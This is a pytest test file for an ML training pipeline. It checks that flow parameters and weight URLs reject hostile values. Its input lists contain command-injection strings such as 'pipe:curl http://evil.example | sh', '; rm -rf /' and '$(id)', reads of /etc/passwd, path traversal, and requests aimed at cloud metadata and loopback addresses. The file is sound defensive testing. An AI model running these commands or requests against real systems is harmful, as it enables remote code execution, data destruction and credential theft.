"""What a flow's parameters and `--weights` may point at: hostile values, refused before anything is done.

pytest tests/unit/test_hostile_parameters.py
"""

import ssl
import threading
import urllib.error
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from hypothesis import given
from hypothesis import strategies as st
from prefect import Flow
from prefect.exceptions import ParameterTypeError

from adodn import settings, web
from adodn.errors import CheckpointError, ConfigError
from adodn.models.weights import read_source
from flows.allowed import allowed_dataset, allowed_destination, allowed_root
from flows.search import tune_adodn
from flows.shard import shard_dataset
from flows.study import study_adodn
from flows.train import train_adodn
from flows.train_cnt import train_cnt

HOSTILE = [
    "pipe:cat /etc/passwd",
    "pipe:curl http://evil.example | sh",
    "file:///etc/passwd",
    "/etc/passwd",
    "../../etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "https://evil.example/dataset",
    "s3://other/datasets/x",
    "s3://adodn-2/datasets/x",
    "s3://adodn",
    "s3://adodn/",
    "s3://adodn/datasets/../registry/x",
    "s3://adodn/datasets/..",
    "s3://adodn/./x",
    "s3://adodn/.hidden/x",
    "s3://adodn//x",
    "s3://adodn/x; rm -rf /",
    "s3://adodn/$(id)",
    "s3://adodn/x\n--register",
    "s3://adodn/x\n",
    "s3://adodn/%2e%2e/x",
    "s3://adodn@evil.example/x",
    "s3://169.254.169.254/x",
    "S3://adodn/x",
    "; rm -rf /",
    "--help",
    "",
]
"""What somebody who may start a flow could try."""


@pytest.fixture(autouse=True)
def no_stack(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[None]:
    """The bucket is `adodn`, whatever stack this machine has."""
    monkeypatch.setenv("ADODN_HOME", str(tmp_path))
    settings.get.cache_clear()
    yield
    settings.get.cache_clear()


@pytest.mark.parametrize("value", HOSTILE)
def test_fault_48_addresses_outside_the_bucket_are_refused(value: str) -> None:
    """Datasets are read in the settings' bucket alone, and written below its folder of datasets."""
    with pytest.raises(ConfigError, match="dataset_uri must lie in s3://adodn/"):
        allowed_dataset(value)
    with pytest.raises(ConfigError, match="destination must lie in s3://adodn/datasets/"):
        allowed_destination(value)


@pytest.mark.parametrize("value", ["s3://adodn/runs/x", "s3://adodn/registry", "s3://adodn/datasets-2/x"])
def test_shards_are_written_below_datasets_alone(value: str) -> None:
    """What may be read is not yet what may be written."""
    assert allowed_dataset(value) == value
    with pytest.raises(ConfigError, match="destination must lie in"):
        allowed_destination(value)


@pytest.mark.parametrize(
    "uri", ["s3://adodn/datasets/300w/0a1b/manifest.json", "s3://adodn/datasets/my-faces_2/v1.0/", "s3://adodn/mine"]
)
def test_honest_addresses_pass(uri: str) -> None:
    """As the documentation writes them; and none at all, or the default, is fine."""
    assert allowed_dataset(uri) == uri
    assert allowed_dataset(None) is None
    assert allowed_destination(None) == allowed_destination("s3://adodn/datasets") == "s3://adodn/datasets"
    assert allowed_destination("s3://adodn/datasets/mine") == "s3://adodn/datasets/mine"


@given(st.text(max_size=60))
def test_nothing_passes_but_plain_addresses(rest: str) -> None:
    """Whatever follows the bucket: if it passes it has no dot segment, no space, no quote, no control character."""
    try:
        uri = allowed_dataset(f"s3://adodn/{rest}")
    except ConfigError:
        return
    assert uri is not None and uri.isascii() and uri.isprintable()
    assert not set(uri) & set(" \"'`$;&|<>\\*?(){}!#~%")
    assert not [part for part in uri.split("/")[3:] if part.startswith((".", "-"))]


@pytest.mark.parametrize("value", HOSTILE[:5])
def test_a_root_is_a_folder_of_this_machine(value: str) -> None:
    """No file, no address, nothing that is not there."""
    with pytest.raises(ConfigError, match="root must be a folder"):
        allowed_root(Path(value))


NAMED = [
    (train_adodn, "dataset_uri"),
    (tune_adodn, "dataset_uri"),
    (study_adodn, "dataset_uri"),
    (shard_dataset, "destination"),
    (train_adodn, "from_model"),
    (train_adodn, "run_name"),
    (study_adodn, "subset"),
]
SCHEMA_SEES = [value for value in HOSTILE if not value.startswith(("s3://other", "s3://adodn-2", "s3://169"))]


@pytest.mark.parametrize("value", SCHEMA_SEES)
@pytest.mark.parametrize(("flow", "parameter"), NAMED)
def test_fault_48_a_deployment_refuses_hostile_parameters(flow: Flow[..., Any], parameter: str, value: str) -> None:
    """By its schema, so that Prefect's server makes no run of it."""
    with pytest.raises(ParameterTypeError, match=parameter):
        flow.validate_parameters({parameter: value})


@pytest.mark.parametrize("value", SCHEMA_SEES)
def test_fault_48_so_does_one_that_takes_several(value: str) -> None:
    """Each address of a list."""
    with pytest.raises(ParameterTypeError, match="dataset_uris"):
        train_cnt.validate_parameters({"dataset_uris": ["s3://adodn/mine", value]})


@pytest.mark.parametrize("flow", [train_adodn, tune_adodn, study_adodn, train_cnt])
@pytest.mark.parametrize("changes", [{"model": {"x": 1}}, {"train.epochs": [1]}, "train.epochs=1"])
def test_fault_48_changes_are_plain_values(flow: Flow[..., Any], changes: Any) -> None:
    """No nested thing passes for a field's value; which fields there are, the config says."""
    with pytest.raises(ParameterTypeError, match="changes"):
        flow.validate_parameters({"changes": changes})


@pytest.mark.parametrize("model", ["models:/adodn-68@champion", "models:/adodn-68/3", "demo-1a2b3c4d"])
def test_honest_models_pass(model: str) -> None:
    """A registered model by alias or version, and a run by name."""
    assert train_adodn.validate_parameters({"from_model": model})["from_model"] == model


NOT_PUBLIC = [
    "https://169.254.169.254/latest/meta-data/iam/",
    "https://[fd00:ec2::254]/",
    "https://100.100.100.200/",
    "https://127.0.0.1/",
    "https://localhost/",
    "https://0.0.0.0/",
    "https://10.0.0.5/",
    "https://192.168.1.1/",
    "https://0x7f.1/",
    "https://2130706433/",
    "https://[::1]/",
    "https://[::ffff:169.254.169.254]/",
    "https://[64:ff9b::169.254.169.254]/",
    "https://[2002:7f00:1::]/",
    "https://224.0.0.1/",
    "https://user:password@example.org/",
    "https:///etc/passwd",
]


@pytest.mark.parametrize("url", NOT_PUBLIC)
def test_weights_come_from_the_public_web_alone(url: str) -> None:
    """Neither a cloud's metadata nor anything else of the machine's own network is asked."""
    with pytest.raises(CheckpointError, match=r"no address of the public internet|must be https://HOST"):
        read_source(url)


@pytest.mark.parametrize("url", ["http://example.org/w.pth", "file:///etc/passwd", "ftp://example.org/w", "pipe:id"])
def test_other_schemes_are_no_addresses(url: str) -> None:
    """They are taken for paths, which are not there."""
    with pytest.raises(CheckpointError, match="cannot be read"):
        read_source(url)


@pytest.fixture
def site(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[str]:
    """A real https server, trusted, on loopback, which counts as public here; `/to?URL` redirects."""
    certificate, key = _certificate(tmp_path)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
    known = web.is_public
    monkeypatch.setattr(web, "is_public", lambda address: address == "127.0.0.1" or known(address))
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Site)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"https://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize(
    "target",
    ["https://169.254.169.254/", "http://127.0.0.1/", "file:///etc/passwd", "https://10.0.0.5/", "ftp://127.0.0.1/x"],
)
def test_a_redirection_is_no_way_round(site: str, target: str) -> None:
    """Each hop is looked at like the first; an honest file is read."""
    assert web.read(f"{site}/file", max_bytes=100) == b"content"
    assert web.read(f"{site}/to?{site}/file", max_bytes=100) == b"content"
    with pytest.raises(OSError, match=r"no address of the public internet|must be https|is not allowed"):
        web.read(f"{site}/to?{target}", max_bytes=100)


def test_a_file_that_is_too_large_is_not_cut(site: str) -> None:
    """An error, and no half file."""
    with pytest.raises(OSError, match="more than 3 bytes"):
        web.read(f"{site}/file", max_bytes=3)


def test_what_was_connected_to_is_looked_at(site: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A name that was public when it was looked up, and is loopback when it is connected to, is asked nothing."""
    asked = len(_Site.asked)
    answers = iter([True])  # public once, then no more
    monkeypatch.setattr(web, "is_public", lambda address: next(answers, False))
    with pytest.raises((OSError, urllib.error.URLError), match="no address of the public internet"):
        web.read(f"{site}/file", max_bytes=100)
    assert len(_Site.asked) == asked


class _Site(BaseHTTPRequestHandler):
    asked: list[str] = []  # noqa: RUF012  # of all requests

    def do_GET(self) -> None:
        self.asked.append(self.path)
        target = self.path.removeprefix("/to?")
        self.send_response(302 if target != self.path else 200)
        if target != self.path:
            self.send_header("Location", target)
        self.send_header("Content-Length", "7")
        self.end_headers()
        self.wfile.write(b"content")

    def log_message(self, format: str, *args: Any) -> None:
        """Silent."""


def _certificate(folder: Path) -> tuple[Path, Path]:
    key, name = ec.generate_private_key(ec.SECP256R1()), x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "site")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder(subject_name=name, issuer_name=name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(IPv4Address("127.0.0.1"))]), critical=False)
        .sign(key, hashes.SHA256())
    )
    (folder / "c.pem").write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    plain = serialization.NoEncryption()
    private = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, plain)
    (folder / "k.pem").write_bytes(private)
    return folder / "c.pem", folder / "k.pem"
